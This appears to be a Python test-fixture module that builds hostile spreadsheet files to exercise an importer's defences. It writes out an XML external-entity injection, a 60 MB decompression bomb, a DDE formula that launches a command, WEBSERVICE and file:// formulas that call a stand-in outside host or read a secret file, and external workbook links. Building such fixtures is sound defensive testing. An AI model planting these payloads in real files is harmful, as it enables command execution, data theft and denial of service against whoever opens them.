"""Workbooks that mean harm, in the two kinds that are zip archives of XML."""

from __future__ import annotations

import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any, Final
from xml.sax.saxutils import escape

import openpyxl
import xlsxwriter

from tests.attacks.hostile_files import Build, Outside, archive, entity


def workbook(fill: Callable[[Any, Outside], None]) -> Build:
    """An XLSX file; `fill` writes into its one sheet."""

    def build(where: Path, outside: Outside) -> Path:
        with xlsxwriter.Workbook(where / "a.xlsx") as book:
            fill(book.add_worksheet(), outside)
        return where / "a.xlsx"

    return build


def roster(page: Any, _: Outside) -> None:
    """A sound sheet."""
    for row, cells in enumerate([["姓名", "联系电话", "村"], ["安娜", "10012345678", "李村"]]):
        page.write_row(row, 0, cells)


def changed_workbook(change: Callable[[str, bytes, Outside], bytes], **more: bytes) -> Build:
    """A sound workbook of which parts were changed, and some added."""

    def build(where: Path, outside: Outside) -> Path:
        sound = workbook(roster)(where, outside).rename(where / "sound.xlsx")
        with zipfile.ZipFile(sound) as whole, zipfile.ZipFile(where / "a.xlsx", "w", 8) as packed:
            for name in whole.namelist():
                packed.writestr(name, change(name, whole.read(name), outside))
            for name, content in more.items():
                packed.writestr(name.replace("__", "/"), content)
        sound.unlink()
        return where / "a.xlsx"

    return build


def doctype_in_workbook(name: str, content: bytes, outside: Outside) -> bytes:
    """Entities in the list of texts."""
    if name != "xl/sharedStrings.xml":
        return content
    return content.replace(b"<sst", entity(outside).replace("kml", "sst").encode() + b"<sst").replace(
        "安娜".encode(), b"&x;"
    )


def bomb_in_workbook(name: str, content: bytes, outside: Outside) -> bytes:
    """A sheet that unpacks to 60 MB."""
    return content + b" " * 60_000_000 if name == "xl/worksheets/sheet1.xml" else content


def last_row_in_workbook(name: str, content: bytes, outside: Outside) -> bytes:
    """One cell in the last row and column that a spreadsheet program knows."""
    return content.replace(b'r="A2"', b'r="XFD1048576"').replace(b'<row r="2"', b'<row r="1048576"')


def fetching_formulas(page: Any, outside: Outside) -> None:
    """Formulas that fetch, call and read, with the values they are said to have."""
    roster(page, outside)
    page.write_formula("A3", f'=WEBSERVICE("{outside.address}")', None, "甲")
    page.write_formula("A4", "=cmd|' /C calc'!A0", None, "乙")
    page.write_formula("A5", f"='file://{outside.secret}'#$Sheet1.A1", None, "丙")
    page.write_url("B3", f"{outside.address}/x", None, "10012345679")


def formulas_without_values(where: Path, outside: Outside) -> Path:
    """Cells that have formulas and no values."""
    book = openpyxl.Workbook()
    book.worksheets[0].append(["姓名", "联系电话", "村"])
    book.worksheets[0].append([f'=WEBSERVICE("{outside.address}")', "10012345678", "李村"])
    book.save(where / "a.xlsx")
    return where / "a.xlsx"


def external_links(where: Path, outside: Outside) -> Path:
    """A workbook that refers to another one."""
    relation = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
        'Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath"'
        f' Target="{outside.address}/b.xlsx" TargetMode="External"/></Relationships>'
    )
    link = (
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/>'
        "</externalLink>"
    )
    build = changed_workbook(
        lambda _, content, __: content,
        **{
            "xl__externalLinks__externalLink1.xml": link.encode(),
            "xl__externalLinks___rels__externalLink1.xml.rels": relation.encode(),
        },
    )
    return build(where, outside)


_ODS_HEAD: Final = (
    '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink"><office:body><office:spreadsheet>'
)
_MANIFEST: Final = (
    '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
    '<manifest:file-entry manifest:full-path="/" '
    'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/></manifest:manifest>'
)
_ODS_TAIL: Final = "</office:spreadsheet></office:body></office:document-content>"


def opendocument(inside: Callable[[Outside], str], prolog: Callable[[Outside], str] = lambda _: "") -> Build:
    """An ODS file with the tables `inside`."""

    def build(where: Path, outside: Outside) -> Path:
        content = f'<?xml version="1.0"?>{prolog(outside)}{_ODS_HEAD}{inside(outside)}{_ODS_TAIL}'
        members = {
            "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
            "content.xml": content.encode(),
            "META-INF/manifest.xml": _MANIFEST.encode(),
        }
        return archive("a.ods", members)(where, outside)

    return build


def cells(*texts: str, repeated: int = 1) -> str:
    """A row of an ODS table."""
    inside = "".join(
        f'<table:table-cell office:value-type="string"><text:p>{escape(text)}</text:p></table:table-cell>'
        for text in texts
    )
    return f'<table:table-row table:number-rows-repeated="{repeated}">{inside}</table:table-row>'


def table_of(*rows: str) -> str:
    """An ODS table."""
    return f'<table:table table:name="S">{"".join(rows)}</table:table>'
